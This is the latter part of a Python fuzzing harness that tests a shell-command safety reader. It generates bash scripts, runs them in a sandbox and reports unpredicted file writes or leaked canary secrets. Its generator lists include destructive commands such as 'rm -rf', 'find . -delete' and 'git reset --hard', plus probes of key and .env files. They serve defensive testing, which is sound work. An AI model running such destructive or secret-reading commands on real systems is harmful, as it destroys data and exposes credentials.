    return Finding("place", f"{ran.argv!r} was run in {ran.folder!r}")


def _check_variables(ran: Ran, commands: Sequence[Command], environment: dict[str, str]) -> Finding | None:
    names = {name for name, value in ran.environment.items() if environment.get(name) != value}
    if len(ran.environment) > 8:  # else it was `env -i`
        names |= environment.keys() - ran.environment.keys()
    names -= _CHANGED_BY_BASH
    if any(names.issubset(command.variables) for command in commands):
        return None
    return Finding("variable", f"{ran.argv!r} was run with {sorted(names)} changed")


def _check_files(ran: Ran, named: set[str], reading: Reading) -> Finding | None:
    for file in ran.files:
        if (
            file.startswith(("/dev/", "/proc/"))
            or file.endswith(" (deleted)")
            or file in named
            or not os.path.isfile(file)
        ):
            continue
        trees = [path.real for path in reading.paths if path.tree]
        if not any(file.startswith(tree + "/") for tree in trees):
            return Finding("file", f"{ran.argv!r} had {file!r} open")
    return None


class Checked(NamedTuple):
    """What came of one script."""

    opaque: bool
    auto: bool
    ran: int = 0
    timed_out: bool = False
    finding: Finding | None = None


class Checker:
    """Reads scripts, runs those that are AUTO, and compares."""

    def __init__(
        self, scratch: Scratch, policy: bytes, compare: Callable[[str, Reading, Outcome], Finding | None]
    ) -> None:
        self.scratch = scratch
        self.reader = Reader(policy, Workspace(scratch.root, scratch.home))
        self._compare = compare

    def check(self, text: str) -> Checked:
        try:
            reading = self.reader.read(text)
        except Exception as error:  # noqa: BLE001 - whatever it is, it is what this looks for
            return Checked(opaque=True, auto=False, finding=Finding("raised", repr(error)))
        if not reading.auto or "\0" in text:
            return Checked(opaque=reading.opaque, auto=reading.auto)
        outcome = self.scratch.run(text)
        finding = self._compare(text, reading, outcome)
        return Checked(opaque=False, auto=True, ran=len(outcome.ran), timed_out=outcome.timed_out, finding=finding)

    def confirmed(self, text: str) -> Finding | None:
        """Return the finding on a script if it comes up again: a process of the script before may have been late."""
        return next((finding for _ in range(3) if (finding := self.check(text).finding) is not None), None)

    def shrunk(self, text: str, kind: str, seconds: float = 10.0) -> str:
        """Return a shorter script with a finding of the same kind."""
        end = time.monotonic() + seconds
        size = max(len(text) // 2, 1)
        while size and time.monotonic() < end:
            at = 0
            while at < len(text) and time.monotonic() < end:
                shorter = text[:at] + text[at + size :]
                finding = self.check(shorter).finding if shorter.strip() else None
                if finding is not None and finding.kind == kind and self.confirmed(shorter) is not None:
                    text = shorter
                else:
                    at += size
            size //= 2
        return text


def stub_checker() -> Checker:
    """Return what holds every argv of an AUTO script against the prediction; from here on without privileges."""
    scratch = Scratch()
    checker = Checker(
        scratch, LOOSEST, lambda text, reading, outcome: find_unpredicted(text, reading, outcome, scratch.environment)
    )
    _settle(checker)
    return checker


def real_checker(hostile: int = -1) -> Checker:
    """Return what runs scripts of readers with the real programs, and finds files that they wrote."""
    checker = Checker(Scratch(real=REAL_PROGRAMS, hostile=hostile), READERS, _find_effect)
    _settle(checker)
    return checker


def _settle(checker: Checker) -> None:
    for text in seeds():  # loads whatever is loaded when first needed, while everything can still be read
        with contextlib.suppress(Exception):  # seen again when the script is checked
            checker.reader.read(text)
    with contextlib.suppress(ImportError):
        tree_sitter_names("ok")
    checker.scratch.settle()


def _find_effect(text: str, reading: Reading, outcome: Outcome) -> Finding | None:
    del reading
    if outcome.changed:
        return Finding("written", f"{', '.join(outcome.changed)} written")
    if "c4n4ry" not in text and _is_shown(outcome):
        return Finding("shown", "a secret was shown")
    return None


# ---------------------------------------------------------------------------------------------------------------------
# The second property: real programs, of which each may write.

REAL_PROGRAMS = """
cat ls grep sed sort uniq head tail wc find awk tr cut xargs env timeout nice tee cp mv rm touch ln dd split xxd tar
diff git bash comm paste nl od fold expand rev tac shuf seq basename dirname realpath readlink stat file du df cmp
join csplit mkdir mktemp sha256sum md5sum base64 gzip nohup stdbuf sh install chmod truncate fmt pr column strings
hexdump tsort numfmt date id uname which egrep fgrep zcat sleep expr
""".split()
_LOOKING = r"""
cat %
cat -n % %
ls -la %
ls @
grep -n @ %
grep -rn x %
grep -f % %
grep -r --include=@ x .
sed -n 1,5p %
sed s/a/b/ %
sed -s -n p %
sed -n '$!N;P;D' %
sort %
sort -u -k 2 %
uniq %
head -n 3 %
tail -n 3 %
wc -l %
find . -name @
find % -type f
find . -newer a.txt -printf '%p\n'
awk '{print $1}' %
awk -v x=1 '{print x}' %
awk '/x/ && $1 > 3' %
awk '{ if ($1 > 3) print $1 }' %
awk '{ print ($1 > 3) }' %
tr a b < %
cut -d: -f1 %
cut -f1 --output-delimiter=@ %
env -C sub cat e.txt
timeout 1 cat %
nice cat %
nohup cat %
xxd %
tar -tf %
tar -cf - a.txt
diff % %
diff -r % %
diff --to-file=% %
comm % %
paste % %
nl %
od -c %
fold -w 3 %
tac %
shuf %
shuf -e a b
seq 3
realpath %
readlink -f %
stat %
file %
du -sh %
cmp % %
join % %
sha256sum %
base64 %
gzip -c %
gzip -dc %
zcat %
column -t %
strings %
date +%Y
date -r %
find sub -type f | while read -r A; do cat "$A"; done
find . -name '*.txt' | while IFS= read -r A; do echo "$A"; head -n 1 "$A" | cat; done
find % -type f | while read A; do grep -n x "$A"; cat @; done
find . -name @ | while read -r A; do head "$A"; done
ls | while read -r A; do wc -l "$A"; done
date -f %
uname -a
which cat
expr 1 + 2
basename %
git status
git status -s
git log --oneline
git log -p -1
git diff
git diff --stat -- %
git diff --no-index % %
git show HEAD:a.txt
git show --stat
git branch
git branch -a
git branch --list @
git branch -v
git tag
git tag -l @
git stash list
git remote -v
git config user.name
git config --list
git config --get user.name
git ls-files
git ls-files -o
git blame a.txt
git reflog
git rev-parse HEAD
git rev-list --count HEAD
git grep -n x
git describe --always
git shortlog HEAD
git format-patch -1 --stdout
git clean -n
git worktree list
git notes list
git bisect log
git bundle verify out1
git fsck
git count-objects -v
git cat-file -p HEAD
git hash-object a.txt
git symbolic-ref HEAD
git merge-base HEAD HEAD
git name-rev HEAD
git check-ignore %
git diff-index HEAD
git diff-files
git diff-tree HEAD
git -C sub status
git --exec-path
git for-each-ref
git submodule status
git apply --check %
git range-diff HEAD HEAD HEAD
git show-ref
git cherry HEAD HEAD
git log --format=@ -1
git log -1 --pretty='%(trailers)'
git log -S x --pickaxe-regex
git log -L1,1:a.txt
""".strip("\n").split("\n")
_CHANGING = r"""
sed -i s/a/b/ %
sed -n 's/x/y/w out1' %
sed -n '1w out1' %
sed -n -e p -e 'w out1' %
sed --in-place=.bak s/x/y/ %
sed -ni p %
sed '1e touch out1' %
sed 's/x/touch out1/e' %
sed -f % %
sort -o % %
sort -uo% %
sort --outp=out1 %
sort --compress-program=touch %
sort -T sub %
sort --files0-from=%
uniq -c % %
uniq -c - out1
wc --files0-from=%
find . -delete
find . -name x1 -fprint out1
find . -fls out1
find . -name x1 -exec rm {} +
find . -name x1 -exec cat {} \;
find . -name x1 -execdir touch out1 \;
find . -type f -ok rm {} \;
awk '{print > "out1"}' %
awk '{print >> "out1"}' %
awk '{print | "cat > out1"}' %
awk 'BEGIN{system("touch out1")}'
awk 'BEGIN{"touch out1" | getline}'
awk -f % %
awk 'BEGIN{printf "x" > ARGV[1]}' out1
awk -i inplace 1 %
echo @ | xargs touch
echo @ | xargs cat
echo x | xargs -I{} cp a.txt {}
ls | xargs -n1 wc -l
env A=1 cat %
env touch out1
timeout 1 touch out1
tee %
tee -a % < a.txt
cp % %
mv % %
rm %
rm -rf %
touch %
ln -s % %
ln % %
dd if=% of=%
dd if=% of=/dev/null
dd of=out1 if=a.txt
split %
split -n 2 a.txt %
xxd -r % %
xxd % out1
xxd -p a.txt out1
tar -cf % a.txt
tar -xf %
tar cf out1 a.txt
tar -cf /dev/null a.txt
tar --to-command=touch -xf %
diff -u --output=out1 % %
shuf -o out1 %
file -C -m %
csplit a.txt 1
mkdir -p %
mktemp -p .
sha256sum -c %
gzip %
install % %
chmod 600 %
truncate -s 0 %
pr %
date -s @
git log --output=out1
git diff --output out1
git diff --outp=out1
git branch new
git tag new
git stash
git remote add x y
git config user.name x
git reflog expire --all
git grep -Otouch x
git archive HEAD
git archive -o out1 HEAD
git format-patch -1
git checkout -- a.txt
git checkout -b new
git add %
git commit -qam x
git reset --hard
git reset
git clean -fd
git worktree add ../wt
git bundle create out1 HEAD
git gc
git hash-object -w a.txt
git symbolic-ref HEAD refs/heads/x
git update-index --refresh
git var GIT_EDITOR
git -c core.pager='touch out1' log
git -p log
git --git-dir=.git log
git submodule foreach touch out1
git apply %
git rerere
git whatchanged -1
git ls-remote .
git fetch .
git init sub
git log --ext-diff -1 -p
git diff --textconv
sed -n '/x/{p;w out1'$'\n''}' %
""".strip("\n").split("\n")
_GIT = sorted({" ".join(shape.split()[:2]) for shape in (*_LOOKING, *_CHANGING) if re.match("git [a-z]", shape)})
_OPTION_POOL = (
    "-i", "-o", "-w", "-f", "-r", "-n", "-a", "-c", "-e", "-u", "-z", "-s", "-p", "-x", "-d", "-l", "-C", "-O", "-v",
    "-I", "--output=out1", "--output", "out1", "-oout1", "--in-place", "--help", "--version", "-fout1", "--outp=out1",
    "--", "-", "-ni", "--log-file=out1", "-D", "-m", "--file=out1", "--append", "-R", "-L", "-t", "-q", "--debug",
    "-T", "-P", "--target-directory=sub", "-b", "-S.bak", "--backup",
)  # fmt: skip


def options_in_help(names: Iterable[str]) -> dict[str, list[str]]:
    """Return the options of each program, and of each subcommand of git, that its own help names."""
    found: dict[str, list[str]] = {}
    for name in dict.fromkeys(names):
        words = name.split()
        try:
            done = subprocess.run(
                [*words, "-h" if len(words) > 1 else "--help"],
                stdin=subprocess.DEVNULL,
                capture_output=True,
                timeout=60,
                check=False,
            )
        except (OSError, subprocess.TimeoutExpired):
            continue
        text = (done.stdout + done.stderr).decode(errors="replace")
        options = re.findall(r"(?<![\w-])--?[A-Za-z0-9][\w-]*=?", text)
        found[name] = sorted(set(options)) or ["-h"]
    return found


_OPERANDS = ("a.txt", "sub/e.txt", "sub", "HEAD", "x", ".", "1p", "{print}", "k.pem", "deep", "way", "sub/in", "*")
_SECRET_FILES = (
    "k.pem", "deep/.env", "hidden/x", "hidden", "way", "way/secret", "sub/out", "sub/in", "../canary/secret",
    "link/out", "deep/deeper/../.env", "sublink/../.env", "link/../k.pem", "./k.pem", "hidden/.", "HIDDEN/x",
)  # fmt: skip
_SECRET_WORDS = (
    "*.pem", "k.p*", "*", "deep/.*", "deep/*", ".", "-r", "-R", "-L", "sub", "deep", "sub/*", "s*/in", "-h",
    "--dereference", "hidden/*", "way/*", "@k.pem", "--file=k.pem", "-fk.pem", "-f", "k.pem", "HEAD", ":k.pem",
    "HEAD:k.pem", "--no-index", "-C", "..", "../canary", "{}", "..",
)  # fmt: skip


class RealGrammar(Grammar):
    """The same scripts about programs that are really run: readers, writers, and options that make the one the other."""

    def __init__(self, random: Random, wild: float, options: dict[str, list[str]]) -> None:
        """Take the options of programs besides what a Grammar takes."""
        super().__init__(random, wild)
        self._options = options

    def simple(self, depth: int) -> str:
        words = self._from_help(depth) if self._options and self.chance(0.35) else self._from_shape(depth)
        if self.chance(0.06):
            words = f"{self.assignment(depth)} {words}"
        if self.chance(0.06):
            words += f" {self.redirection(depth)}"
        return words

    def _from_shape(self, depth: int) -> str:
        shape = self.pick(_LOOKING if self.chance(0.7) else _CHANGING)
        parts = re.split(r"(?<![\w%])([@%])(?=\s|$)", shape)
        words = "".join(self.word(depth) if part == "@" else self._file() if part == "%" else part for part in parts)
        if self.chance(0.1):
            words += f" {self.pick(_SECRET_WORDS)}"
        if self.chance(0.25):
            name, _, rest = words.partition(" ")
            option = self.pick(_OPTION_POOL)
            words = f"{name} {option} {rest}" if self.chance(0.5) else f"{words} {option}"
        return words

    def _file(self) -> str:
        return self.quoted(self.pick(_SECRET_FILES if self.chance(0.1) else FILES))

    def _from_help(self, depth: int) -> str:
        name = self.pick(tuple(self._options))
        words = [name]
        for _ in range(1 + self.random.randrange(2)):
            option = self.pick(self._options[name])
            value = self.pick(
                ("out1", "1", "a.txt", "x", "HEAD", "out1", "p", "now", ",", "/dev/null", "sub", "100", "touch out1")
            )
            match self.random.randrange(4):
                case 0 if option.startswith("--"):
                    words.append(f"{option.rstrip('=')}={self.quoted(value)}")
                case 1:
                    words += [option.rstrip("="), self.quoted(value)]
                case 2 if not option.startswith("--"):
                    words.append(option + self.quoted(value))
                case _:
                    words.append(option.rstrip("="))
        for _ in range(self.random.randrange(3)):
            words.insert(
                1 + self.random.randrange(len(words)),
                self.pick(_OPERANDS),
            )
        return " ".join(words)

    def command(self, depth: int) -> str:
        if self.chance(0.15):
            return self._handed()
        return self.simple(depth) if self.chance(0.7) else super().command(depth)

    def _handed(self) -> str:
        """Return a pipeline whose last part is handed the names of files."""
        parts = [self.pick(_FINDERS)]
        while self.chance(0.5):
            parts.append(self.pick(_DROPPERS))
        if self.chance(0.4):
            return self._substituted(" | ".join(parts))
        parts.append(f"{self.pick(_HANDERS)} {self.pick(_HANDED)}")
        text = " | ".join(parts)
        return f"cd {self.pick(('sub', 'odd', 'deep', 'odd/more'))} && {text}" if self.chance(0.3) else text

    def _substituted(self, finds: str) -> str:
        """Return a command whose last words, or a loop whose rounds, are the names that a `$( )` prints."""
        text = f"{self.pick(_HANDED)} {self.pick(_SUBSTITUTED).replace('@', finds)}"
        if self.chance(0.3):
            value = self.pick(("$A", '"$A"', "x$A"))
            loop = f"for A in $({finds}); do {self.pick(_HANDED)} {value}; done"
            text = loop if self.chance(0.7) else f"{loop}; cat $A"
        return f"cd {self.pick(('sub', 'odd', 'deep', 'odd/more'))} && {text}" if self.chance(0.3) else text


_SUBSTITUTED = (
    "$(@)", "$(@)", "$(@)", "$(@)", "a.txt $(@)", "$(@) a.txt", "$(@)x", "$(@) $(@)", '"$(@)"', "$(@; echo k.pem)", "`@`",
    "< $(@)", "$(@) < a.txt", "$(cd sub && @)", "$(@) $(echo k.pem)", "$(@ 2>&1)", "$(! @)", "$(@)''", "-- $(@)", "-f $(@)",
)  # fmt: skip
_FINDERS = (
    "find . -type f", "find sub", "find sub odd -type f", "find . -name '*.txt'", "find sub -name '*.txt' -print0",
    "find . -type f -not -path '*/deep/*' -not -path './hidden/*' -not -name '*.pem'", "find . -type f -not -path '*/.*'",
    "find odd/more -print0", "find sub deep ! -path '*/deep/*'", "find . -maxdepth 1 -name '[a-e]*'", "find odd -name '*.txt'",
    "find deep -type f -print -not -path '*/.*'", "find deep -type d -not -path '*/deeper/*'", "find sub/in sub/out",
    "grep -rl . sub", "grep -rl . sub --include='*.txt'", "grep -l . a.txt sub/e.txt", "grep -rlZ .", "grep -Rl . deep",
    "grep -rL nothing . --exclude-dir=deep --exclude-dir=hidden", "rg -l .", "rg -l . sub", "rg --files", "rg --files -uu deep",
    "rg -l0 . sub odd", "rg -l -g '*.txt' .", "ls", "ls -A", "ls sub/*.txt", "ls sub", "ls -d sub/*", "ls -1t", "ls -a",
    "git ls-files", "git ls-files sub", "git ls-files -z", "git ls-files -o", "echo sub/e.txt", "printf '%s\\n' a.txt k.pem",
)  # fmt: skip
_DROPPERS = (
    "head", "head -n 3", "head -z -n 5", "head -c 20", "tail -n +2", "sort", "sort -ru", "sort -z", "uniq", "uniq -c", "cat",
    "cat -n", "cat - a.txt", "tac", "grep -v e", "grep e", "grep -n e", "grep -o .", "grep -zv x", "sed -n 1,3p", "sed 1d",
    "sed s/e/k/", "sed '/x/d'", "tr e k", "tr '\\n' '\\0'", "cut -c 2-", "xargs ls", "xargs grep -l .", "xargs -n1 echo",
    "xargs rg -l .", "xargs dirname", "LC_ALL=C sort", "tee out1", "sort 2>&1", "awk 1",
)  # fmt: skip
_HANDERS = (
    "xargs", "xargs", "xargs", "xargs -0", "xargs -0", "xargs -n 1", "xargs -r", "xargs -P 2", "xargs -I{}", "xargs -d '\\n'",
    "xargs -L 1", "xargs -0 -n1", "xargs -t", "xargs -a a.txt", "xargs -E x", "xargs -i", "xargs -I % -0",
)  # fmt: skip
_HANDED = (
    "cat", "cat --", "head -3", "head -3 {}", "cat {}", "cat %", "cat sub/{}", "grep .", "grep -r .", "grep -l .", "rg .",
    "rg -uu .", "wc -l", "sed -n 1,9p", "sed -i s/x/y/", "awk 1", "sort", "uniq", "tac", "tail", "nl", "od -c", "xxd", "jq .",
    "git show", "git log -p", "git diff --no-index a.txt", "diff a.txt", "file", "stat", "ls", "find", "sh", "sh -c 'cat $0'",
    "rm", "touch", "grep -f", "cut -c1-99", "comm a.txt", "tee", "cp -t out1", "env cat", "timeout 1 cat", "base64", "strings",
)  # fmt: skip


def real_scripts(random: Random, count: int, options: dict[str, list[str]]) -> Iterator[Made]:
    """Yield scripts for the second property: of these programs alone, and with no path that leads far away."""
    for number in range(count):
        grammar = RealGrammar(random, (0.0, 0.0, 0.05)[random.randrange(3)], options)
        text = grammar.lists(1, 1 + random.randrange(2))
        if number % 3 == 0:
            text = _changed(grammar, grammar.simple(1), grammar.simple(1))
        if _stays_near(text):
            yield Made(text, "mutation" if number % 3 == 0 else "grammar")


_BETWEEN = {
    "sed": "p", "grep": "x", "awk": "1", "tr": "a b", "find": ".", "cut": "-f1", "env": "cat", "timeout": "1 cat",
    "nice": "cat", "nohup": "cat", "stdbuf": "-oL cat", "xargs": "echo",
}  # fmt: skip
_PLACES = (
    "@ # = a.txt", "@ # out1 = a.txt", "@ #out1 = a.txt", "@ = a.txt # out1", "@ # =", "@ = #", "@ # 1 = a.txt", "@ = a.txt #",
    "@ #1 = a.txt", "@ #=out1 = a.txt", "@ #=1 = a.txt", "@ #='touch out1' = a.txt",
)  # fmt: skip


def option_scripts(options: dict[str, list[str]], part: int, parts: int) -> Iterator[Made]:
    """Yield each option of each program in all ways of writing it, a `parts`-th of them."""
    number = 0
    for name, names in options.items():
        for option in names:
            for place in _PLACES:
                number += 1
                if number % parts == part:
                    text = re.sub("(?<= )=(?= |$)", _BETWEEN.get(name, ""), place)
                    yield Made(text.replace("@", name, 1).replace("#", option.rstrip("="), 1), "options")


def _stays_near(text: str) -> bool:
    """Say whether no word can lead out of the scratch folder: nothing absolute but /dev/null, and few steps up."""
    plain = re.sub(r"['\"\\\n]", "", text.replace("/dev/null", ""))
    return (
        re.search(r"(?<![\w.*?\]])/", plain) is None
        and plain.count("..") <= 3
        and "\\x2" not in text
        and "\\05" not in text
    )


# ---------------------------------------------------------------------------------------------------------------------
# The second opinion.


def tree_sitter_names(text: str) -> list[str] | None:
    """Return the plain names of the commands that tree-sitter-bash finds, or None where it finds an error.

    Raises ImportError where it is not installed.
    """
    import tree_sitter
    import tree_sitter_bash

    parser = tree_sitter.Parser(tree_sitter.Language(tree_sitter_bash.language()))
    root = parser.parse(text.encode()).root_node
    if root.has_error:
        return None
    names: list[str] = []
    waiting = [root]
    while waiting:
        node = waiting.pop()
        waiting += node.children
        if node.type == "command_name" and node.text is not None:
            name = node.text.decode()
            if _BARE.fullmatch(name):
                names.append(name)
    return names


def find_unnamed(text: str, reading: Reading) -> list[str]:
    """Return the commands of an AUTO script that tree-sitter finds and the reading does not name."""
    first = {command.argv[0] for command in reading.commands}
    return [name for name in tree_sitter_names(text) or () if name not in first]


# ---------------------------------------------------------------------------------------------------------------------
# By hand.


class Counterexample(NamedTuple):
    """A script that did what was not predicted, as it was made and as short as it could be made."""

    kind: str
    what: str
    text: str
    shrunk: str


class Part(NamedTuple):
    """What one process found."""

    counts: dict[str, int]
    found: list[Counterexample]
    disagreements: list[tuple[str, str]]


class Job(NamedTuple):
    """What one process is to do."""

    seed: int
    size: int
    part: int
    parts: int
    real: bool
    options: bool
    second: bool


def run_part(job: Job) -> Part:
    """Do a job in this process, which loses its privileges."""
    checker = real_checker(job.seed % 64 if job.seed % 2 else -1) if job.real else stub_checker()
    try:
        return _run_part(checker, job)
    finally:
        checker.scratch.remove()


def _run_part(checker: Checker, job: Job) -> Part:
    counts: Counter[str] = Counter()
    found: list[Counterexample] = []
    disagreements: list[tuple[str, str]] = []
    kinds: Counter[str] = Counter()
    for made in _scripts_of(job):
        checked = checker.check(made.text)
        _count(counts, made, checked)
        if checked.finding is not None and (confirmed := checker.confirmed(made.text)) is not None:
            counts["counterexamples"] += 1
            kinds[confirmed.kind] += 1
            shrunk = checker.shrunk(made.text, confirmed.kind) if kinds[confirmed.kind] <= 15 else made.text
            what = checker.confirmed(shrunk) or confirmed
            found.append(Counterexample(confirmed.kind, what.what, made.text, shrunk))
        if job.second and checked.auto:
            disagreements += [(name, made.text) for name in find_unnamed(made.text, checker.reader.read(made.text))]
    return Part(dict(counts), found, disagreements)


def _scripts_of(job: Job) -> Iterator[Made]:
    if not job.real:
        return scripts(Random(job.seed), job.size)
    options = options_in_help([*REAL_PROGRAMS, *_GIT])
    if job.options:
        return option_scripts(options, job.part, job.parts)
    return real_scripts(Random(job.seed), job.size, options)


def _count(counts: Counter[str], made: Made, checked: Checked) -> None:
    counts["scripts"] += 1
    counts[f"made by {made.origin}"] += 1
    counts["read without opaque"] += not checked.opaque
    counts["auto"] += checked.auto
    counts[f"auto of {made.origin}"] += checked.auto
    counts["programs run"] += checked.ran
    counts["auto scripts that ran a program"] += checked.ran > 0
    counts["timed out"] += checked.timed_out


def _each_in_a_process(todo: Sequence[Job], jobs: int) -> Iterator[Part]:
    """Yield the parts as they are done: each in a process of its own, which loses what it takes to make a scratch folder.

    Raises RuntimeError if a process ends without an answer: scripts that nobody looked at must not pass for clean ones.
    """
    waiting = list(reversed(todo))
    running: list[Connection] = []
    context = multiprocessing.get_context("fork")
    while waiting or running:
        while waiting and len(running) < jobs:
            ours, theirs = context.Pipe(duplex=False)
            context.Process(target=_answer, args=(waiting.pop(), theirs), daemon=True).start()
            theirs.close()
            running.append(ours)
        for connection in wait(running):
            assert isinstance(connection, Connection)
            running.remove(connection)
            try:
                part: Part = connection.recv()
            except EOFError:
                raise RuntimeError("a process ended without an answer") from None
            yield part


def _answer(job: Job, connection: Connection) -> None:
    connection.send(run_part(job))


def run_all(seed: int, count: int, jobs: int, *, real: bool, options: bool = False, second: bool = False) -> Part:
    """Check `count` scripts (with `options`: all of those) in several processes."""
    step = 1_000 if real else 5_000
    parts = 8 if options else -(-count // step)
    todo = [
        Job(seed * 1_000_000 + part, min(step, count - part * step), part, parts, real or options, options, second)
        for part in range(parts)
    ]
    counts: Counter[str] = Counter()
    found: list[Counterexample] = []
    disagreements: list[tuple[str, str]] = []
    for done in _each_in_a_process(todo, jobs):
        counts.update(done.counts)
        found += done.found
        disagreements += done.disagreements
    return Part(dict(counts), found, disagreements)


def serve(lines: Iterable[str], *, real: bool) -> None:
    """Check the scripts that come in, one a line, each a JSON text, and answer each with an object.

    A list with a script in it: run it, whatever its verdict, and say what ran and what was written. For the oracle's own tests.
    """
    checker = real_checker() if real else stub_checker()
    try:
        for line in lines:
            asked = json.loads(line)
            if isinstance(asked, list):
                outcome = checker.scratch.run(asked[0])
                answer = {
                    "ran": [list(ran.argv) for ran in outcome.ran],
                    "changed": _inside(checker.scratch, outcome),
                    "shown": _is_shown(outcome),
                }
            else:
                checked = checker.check(asked)
                finding = checker.confirmed(asked) if checked.finding is not None else None
                answer = {
                    "auto": checked.auto,
                    "ran": checked.ran,
                    "finding": list(finding) if finding is not None else None,
                }
            print(json.dumps(answer), flush=True)
    finally:
        checker.scratch.remove()


def _is_shown(outcome: Outcome) -> bool:
    return _SHOWN.search(outcome.printed) is not None


def _inside(scratch: Scratch, outcome: Outcome) -> list[str]:
    return [os.path.relpath(path, scratch.root) for path in outcome.changed]


def main() -> int:
    """Run what the command line says; 1 if there is a counterexample."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else "")
    parser.add_argument("--count", type=int, default=10_000)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--jobs", type=int, default=2)
    parser.add_argument("--options", action="store_true", help="the same with every option in the programs' help")
    parser.add_argument("--real", action="store_true", help="readers with the real programs: they must write nothing")
    parser.add_argument(
        "--second-opinion", action="store_true", help="print where tree-sitter-bash finds more commands"
    )
    parser.add_argument("--json", action="store_true", help="print one object")
    parser.add_argument("--serve", action="store_true", help="check the scripts of the input, a JSON text a line")
    parser.add_argument("texts", nargs="*", help="check these scripts only")
    options = parser.parse_args()
    if options.serve:
        serve(sys.stdin, real=options.real)
        return 0
    if options.texts:
        return _check_texts(options.texts, real=options.real)
    started = time.monotonic()
    part = run_all(
        options.seed,
        options.count,
        options.jobs,
        real=options.real,
        options=options.options,
        second=options.second_opinion,
    )
    seconds = time.monotonic() - started
    if options.json:
        print(
            json.dumps(
                {
                    "counts": part.counts,
                    "found": [list(each) for each in part.found],
                    "disagreements": part.disagreements,
                }
            )
        )
    else:
        _print_part(part, seconds)
    return 1 if part.found else 0


def _check_texts(texts: Sequence[str], *, real: bool) -> int:
    checker = real_checker() if real else stub_checker()
    try:
        for text in texts:
            reading = checker.reader.read(text)
            checked = checker.check(text)
            print(f"{'auto' if checked.auto else 'opaque' if checked.opaque else 'asked'}: {text!r}")
            for facet in reading.facets:
                print(
                    "   facet",
                    facet.argv
                    if isinstance(facet, Command)
                    else facet.written
                    if isinstance(facet, PathAccess)
                    else facet,
                )
            print("  ", checked.finding or "as predicted")
    finally:
        checker.scratch.remove()
    return 0


def _print_part(part: Part, seconds: float) -> None:
    for name, count in sorted(part.counts.items()):
        origin = name.removeprefix("auto of ")
        share = f" ({100 * count / max(part.counts[f'made by {origin}'], 1):.0f} %)" if origin != name else ""
        print(f"{count:>9,} {name}{share}")
    print(f"{part.counts['scripts'] / seconds:>9,.0f} scripts a second")
    for found in part.found:
        print(f"\n{found.kind}: {found.what}\n  {found.shrunk!r}\n  made as {found.text!r}")
    for name, text in part.disagreements[:50]:
        print(f"\ntree-sitter: {name}\n  {text!r}")


if __name__ == "__main__":
    sys.exit(main())
